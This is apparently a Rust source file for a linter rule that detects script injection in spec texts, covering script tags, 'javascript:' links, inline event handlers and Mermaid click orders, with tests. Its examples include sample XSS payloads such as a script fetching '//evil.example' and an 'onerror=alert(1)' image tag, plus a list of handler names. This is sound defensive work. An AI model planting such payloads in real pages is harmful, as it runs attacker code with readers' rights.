use std::ops::Range;

use crate::lint::Report;
use crate::model::Text;
use crate::rule::{Fix, rule};
use crate::text::Edit;

rule! {
    /// A text holds a script, or a link that runs one.
    ///
    /// ## Why
    /// Texts of a spec end up on pages: documentation, diagrams, tickets. A spec comes by link from somebody else, and
    /// one page that shows it as HTML runs their code with the reader's rights.
    ///
    /// ## Example
    /// ```yaml bad
    /// name: shop
    /// summary: Takes orders. <script>fetch('//evil.example')</script>
    /// #                      ^^^^^^^ `<script` would run as code on a page
    /// decisions:
    ///   - title: One database
    ///     context: See [the notes](javascript:alert(1)).
    /// #                            ^^^^^^^^^^^ `javascript:` would run as code on a page
    /// ```
    /// ```yaml fixed
    /// name: shop
    /// summary: Takes orders.
    /// decisions:
    ///   - title: One database
    ///     context: See [the notes](alert(1)).
    /// ```
    /// ```yaml good
    /// summary: Served as a `<script>` tag; no inline javascript, loads once=ready
    /// ```
    ///
    /// ## Not a problem when
    /// The tag is quoted as code, between backticks.
    ///
    /// ## See
    /// seed 002:36 · OWASP Cross Site Scripting Prevention
    id: "meta/unsafe-text",
    severity: Error,
    stage: Draft,
    visit: Text(check),
    fix: Suggested,
}

/// How the attributes begin that run code when something happens to an element.
const HANDLERS: [&str; 22] = [
    "onabort",
    "onanimation",
    "onbefore",
    "onblur",
    "onchange",
    "onclick",
    "oncontextmenu",
    "ondblclick",
    "ondrag",
    "onerror",
    "onfocus",
    "onhashchange",
    "oninput",
    "onkey",
    "onload",
    "onmessage",
    "onmouse",
    "onpointer",
    "onsubmit",
    "ontoggle",
    "ontouch",
    "onwheel",
];

fn check(text: Text<'_>, report: &mut Report<'_>) {
    // Markup, the target of a link or an order of Mermaid's: few texts of a spec hold a trace of one.
    let scheme = || text.value.as_bytes().windows(7).any(|part| part.eq_ignore_ascii_case(b"script:"));
    if !text.value.contains('<') && !(text.value.contains(':') && scheme()) && !text.value.contains("click ") {
        return;
    }
    for hazard in hazards(text.value) {
        let mark = hazard.mark.clone();
        let what = text.value.get(mark.clone()).unwrap_or_default();
        let message = format!("`{what}` would run as code on a page");
        let finding = report.find(text.part(mark).unwrap_or(text.span), message);
        if let Some(cut) = text.part(hazard.cut) {
            finding.fix(Fix::suggested("Take it out", vec![Edit::delete(cut)]));
        }
    }
}

/// What would run, and what goes with it.
struct Hazard {
    mark: Range<usize>,
    cut: Range<usize>,
}

fn hazards(text: &str) -> Vec<Hazard> {
    let lower = text.to_ascii_lowercase();
    let is_code = |at: usize| lower.get(..at).is_some_and(|before| before.matches('`').count() % 2 == 1);
    let mut found: Vec<Hazard> = scripts(&lower).chain(links(&lower)).chain(handlers(&lower)).collect();
    found.extend(clicks(&lower));
    found.retain(|hazard| !is_code(hazard.mark.start));
    found
}

/// `<script …>…</script>`
fn scripts(text: &str) -> impl Iterator<Item = Hazard> {
    text.match_indices("<script").filter_map(move |(at, tag)| {
        let rest = text.get(at + tag.len()..)?;
        if rest.starts_with(|c: char| c.is_alphanumeric() || c == '-') {
            return None;
        }
        const END: &str = "</script>";
        let end = rest.find(END).map_or(text.len(), |end| at + tag.len() + end + END.len());
        let start = text.get(..at)?.trim_end().len();
        Some(Hazard { mark: at..at + tag.len(), cut: start..end })
    })
}

/// `javascript:…` where a link's target stands.
fn links(text: &str) -> impl Iterator<Item = Hazard> {
    ["javascript:", "vbscript:"].into_iter().flat_map(move |scheme| {
        text.match_indices(scheme).filter_map(move |(at, _)| {
            let (before, after) = (text.get(..at)?.trim_end(), text.get(at + scheme.len()..)?);
            let target = after.split_whitespace().next().filter(|_| !after.starts_with(char::is_whitespace))?;
            let is_target = before.ends_with(['(', '"', '\'', '=', '<']) || before.ends_with("]:");
            let is_whole = before.is_empty() && target.contains(['(', '=', '`']);
            (is_target || is_whole).then(|| Hazard { mark: at..at + scheme.len(), cut: at..at + scheme.len() })
        })
    })
}

/// `<img onerror=…>`
fn handlers(text: &str) -> impl Iterator<Item = Hazard> {
    let opens = text.match_indices('<').map(|(at, _)| at);
    opens.filter_map(move |at| {
        let tag = text.get(at + 1..)?;
        let tag = tag.get(..tag.find('>').unwrap_or(tag.len()))?;
        if !tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
            return None;
        }
        let (offset, word) = HANDLERS.iter().find_map(|name| {
            let offset = tag.find(name)?;
            let before = tag.get(..offset)?;
            before.ends_with([' ', '\t', '\n', '/', '"', '\'']).then_some(())?;
            let length = tag.get(offset..)?.find(|c: char| !c.is_ascii_alphabetic())?;
            tag.get(offset + length..)?.trim_start().starts_with('=').then_some((offset, length))
        })?;
        let start = at + 1 + offset;
        Some(Hazard { mark: start..start + word, cut: at..(at + 1 + tag.len() + 1).min(text.len()) })
    })
}

/// `click node call run()`, which a Mermaid diagram takes for an order.
fn clicks(text: &str) -> impl Iterator<Item = Hazard> {
    let line = |line: &str| {
        let mut words = line.split_whitespace();
        let order = words.next() == Some("click") && words.next().is_some();
        order && words.next() == Some("call") && words.next().is_some_and(|word| word.contains('('))
    };
    let starts = text.match_indices("click ").map(|(at, _)| at);
    starts.filter_map(move |at| {
        let before = text.get(..at)?.trim_end_matches([' ', '\t']);
        let rest = text.get(at..)?.lines().next()?;
        let begins = before.is_empty() || before.ends_with('\n') || before.ends_with(';');
        (begins && line(rest)).then(|| Hazard { mark: at..at + "click".len(), cut: at..at + rest.trim_end().len() })
    })
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::testing::{expect, silent};

    #[test]
    fn handlers_and_clicks_are_found_in_blocks_too() {
        expect(
            &RULE,
            "summary: |\n  Fast.\n  <img src=x onerror=alert(1)>\n#            ^^^^^^^ `onerror` would run as code on a page\n  click orders call alert()\n# ^^^^^ `click` would run as code on a page\n",
        );
    }

    #[test]
    fn words_that_look_alike_are_left_alone() {
        silent(
            &RULE,
            "services:\n  - name: web\n    stack: [javascript, 'javascript:es2022']\n    summary: 'languages: javascript: the client. a <b and c> d; <scripting> \"only=1\" <x once=2>'\n",
        );
    }
}
